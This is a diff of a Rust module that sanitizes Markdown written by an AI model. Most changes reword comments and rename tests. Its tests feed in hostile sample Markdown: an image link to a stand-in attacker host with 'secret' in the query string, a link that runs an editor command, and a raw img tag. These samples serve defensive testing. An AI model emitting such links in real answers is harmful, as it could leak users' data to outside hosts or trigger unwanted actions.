@@ -1,8 +1,8 @@
 //! The model's Markdown, made harmless.
 //!
-//! It stays Markdown, but nothing in it may reach out of the document: images and links become their text with the
-//! target shown, HTML is shown as text, link definitions go, and an open fence is closed so that it cannot swallow
-//! what follows.
+//! It stays Markdown, but nothing in it may point outside the document: images and links become their text with the
+//! target shown, HTML is shown as text, link definitions are removed, and an open fence is closed so that it cannot
+//! swallow the text after it.
 
 use std::ops::Range;
 
@@ -10,11 +10,12 @@ use pulldown_cmark::{CowStr, Event as Markdown, LinkType, Options, Parser, Tag, 
 
 use crate::Cleaner;
 
-/// The Markdown that editors and GitHub agree on.
+/// The Markdown extensions that both editors and GitHub support.
 const DIALECT: Options =
     Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH).union(Options::ENABLE_TASKLISTS);
 
-/// A longer text, in bytes, is shown as it is: nobody reads it as Markdown, and to make it harmless would take seconds.
+/// Limit in bytes. A longer text is shown as plain text: people do not read it as Markdown, and making it harmless
+/// would take seconds.
 const LONGEST_MARKDOWN: usize = 500_000;
 
 /// Text as a fenced block that nothing inside can close.
@@ -22,12 +23,12 @@ const LONGEST_MARKDOWN: usize = 500_000;
 pub fn fence(language: &str, text: &str) -> String {
     let fence = "`".repeat((longest_run(text) + 1).max(3));
     let end = if text.ends_with('\n') { "" } else { "\n" };
-    // The language may be a model's word: no more of it than a word.
+    // The language may come from a model, so only its first word is used.
     let language: String = language.chars().take_while(char::is_ascii_alphanumeric).collect();
     format!("{fence}{language}\n{text}{end}{fence}\n")
 }
 
-/// Text as code within a line, which nothing inside can end.
+/// Text as inline code that nothing inside can end.
 pub(super) fn inline(text: &str) -> String {
     let marks = "`".repeat(longest_run(text) + 1);
     if text.contains('`') { format!("{marks} {text} {marks}") } else { format!("{marks}{text}{marks}") }
@@ -38,8 +39,8 @@ fn longest_run(text: &str) -> usize {
     text.split(|character| character != '`').map(str::len).max().unwrap_or(0)
 }
 
-/// The model's Markdown, made harmless. What stays harmful after a few passes — one edit can uncover what
-/// another parse sees as a link — is shown as plain text.
+/// Makes the model's Markdown harmless. This takes several passes, because an edit can uncover what the next parse
+/// sees as a link. A text that is still harmful after them is shown as plain text.
 #[must_use]
 pub(super) fn answer(text: &str) -> String {
     if text.len() > LONGEST_MARKDOWN {
@@ -69,7 +70,7 @@ fn is_harmless(text: &str) -> bool {
         })
 }
 
-/// Replaces what reaches out of the document, and keeps every other byte as the model wrote it.
+/// Replaces everything that points outside the document, and keeps every other byte as the model wrote it.
 fn without_references(text: &str) -> String {
     let parser = Parser::new_ext(text, DIALECT);
     let mut edits: Vec<(Range<usize>, String)> = parser
@@ -77,11 +78,11 @@ fn without_references(text: &str) -> String {
         .iter()
         .map(|(_, definition)| (definition.span.clone(), String::new()))
         .collect();
-    // The outermost link or image that is open: its range, target, label so far, and how deep we are in it.
+    // The outermost open link or image: its range, its target and its label so far; then the nesting depth.
     let mut open: Option<(Range<usize>, String, String)> = None;
     let mut depth = 0_usize;
     let mut in_code = false;
-    // Where the last text ended: a backslash between two texts is an escape, and not text itself.
+    // End of the last text: a backslash between two texts is an escape, not text.
     let mut text_end = 0_usize;
     for (event, range) in parser.into_offset_iter() {
         match event {
@@ -137,7 +138,7 @@ fn shown_target(link_type: LinkType, target: &str) -> String {
     }
 }
 
-/// Applies edits to a text; an edit inside an earlier one is part of it already.
+/// Applies edits to a text. An edit inside an earlier one is skipped, because the earlier one covers it.
 fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
     edits.sort_by_key(|(range, _)| (range.start, std::cmp::Reverse(range.end)));
     let mut result = String::with_capacity(text.len());
@@ -153,8 +154,8 @@ fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
     result + &text[at..]
 }
 
-/// Text in which no link, image, definition or tag can begin, whatever comes to stand around it. The first
-/// character may be escaped already.
+/// Escapes a text so that no link, image, definition or tag can begin in it, whatever is around it. `is_escaped` is
+/// `true` if the first character is already escaped.
 fn disarmed(text: &str, is_escaped: bool) -> String {
     let mut safe = String::with_capacity(text.len());
     for (index, character) in text.char_indices() {
@@ -185,7 +186,7 @@ fn closed(text: &str) -> String {
     format!("{text}\n{}\n", mark.to_string().repeat(length))
 }
 
-/// Text as text: nothing in it is Markdown.
+/// Escapes a text so that nothing in it is Markdown.
 pub(super) fn escape(text: &str) -> String {
     let mut escaped = String::with_capacity(text.len());
     for character in Cleaner::clean(text).chars() {
@@ -201,7 +202,7 @@ pub(super) fn escape(text: &str) -> String {
     escaped
 }
 
-/// Text as text where a reader expects no link: some renderers make links of what looks like one.
+/// Like [`escape`], for places without links: some renderers turn text that looks like a link into one.
 pub(super) fn escape_unlinked(text: &str) -> String {
     escape(text)
         .replace("://", "\\://")
@@ -210,12 +211,12 @@ pub(super) fn escape_unlinked(text: &str) -> String {
         .replace("WWW.", "WWW\\.")
 }
 
-/// A link target in angle brackets.
+/// Escapes a link target for use in angle brackets.
 pub(super) fn target(link: &str) -> String {
     link.replace('%', "%25").replace('<', "%3C").replace('>', "%3E").replace('\\', "%5C").replace('\n', "%0A")
 }
 
-/// A quotation with a bold first line.
+/// A block quote with a bold first line.
 pub(super) fn quoted(heading: &str, text: &str) -> String {
     let lines = text.trim().lines().map(|line| format!("> {}\n", escape(line)));
     format!("> **{}**\n>\n{}", escape(heading), lines.collect::<String>())
@@ -230,7 +231,7 @@ mod tests {
     use super::{DIALECT, answer, fence};
 
     #[test]
-    fn nothing_reaches_out_of_an_answer() {
+    fn nothing_in_an_answer_points_outside_the_document() {
         let hostile = "\
 Total **13**, see [the docs](https://example.com/a_b \"title\") and ![chart](https://evil.example/p.png?q=secret).
 [run me](command:workbench.action.quit) <https://example.com> <img src=https://evil.example/x>
@@ -256,13 +257,13 @@ Total **13**, see [the docs](https://example.com/a_b \"title\") and ![chart](htt
     }
 
     #[test]
-    fn an_open_fence_cannot_swallow_what_follows() {
+    fn an_open_fence_cannot_swallow_the_text_after_it() {
         assert_eq!(answer("~~~~py\nx = 1"), "~~~~py\nx = 1\n~~~~\n");
         assert_eq!(answer("```py\nx\n```"), "```py\nx\n```\n");
     }
 
     #[test]
-    fn a_fence_is_longer_than_any_run_inside() {
+    fn a_fence_is_longer_than_any_run_of_backticks_inside() {
         assert_eq!(fence("text", "a ```` b"), "`````text\na ```` b\n`````\n");
         assert_eq!(fence("", "x\n"), "```\nx\n```\n");
         assert_eq!(fence("py\n```", "x"), "```py\nx\n```\n");
@@ -270,9 +271,9 @@ Total **13**, see [the docs](https://example.com/a_b \"title\") and ![chart](htt
 
     proptest! {
         #[test]
-        fn no_image_link_or_html_survives_any_text(text in r"([!\[\]()<>`~\\#\n a:/]|https://x|\[1\]: |!\[|\]\(|<img src=x>|<div>|<!--|\[x\]\(command:y\)|\\\\|```){0,30}") {
+        fn no_image_link_or_html_survives(text in r"([!\[\]()<>`~\\#\n a:/]|https://x|\[1\]: |!\[|\]\(|<img src=x>|<div>|<!--|\[x\]\(command:y\)|\\\\|```){0,30}") {
             let safe = answer(&text);
-            // Read together with another block, so that a definition or an open fence would show.
+            // Parsed together with another block, to reveal a definition or an open fence.
             let page = format!("{safe}\n[1]\n\n![1]\n\n[a][1]\n");
             for event in Parser::new_ext(&page, DIALECT) {
                 let reaches_out = matches!(
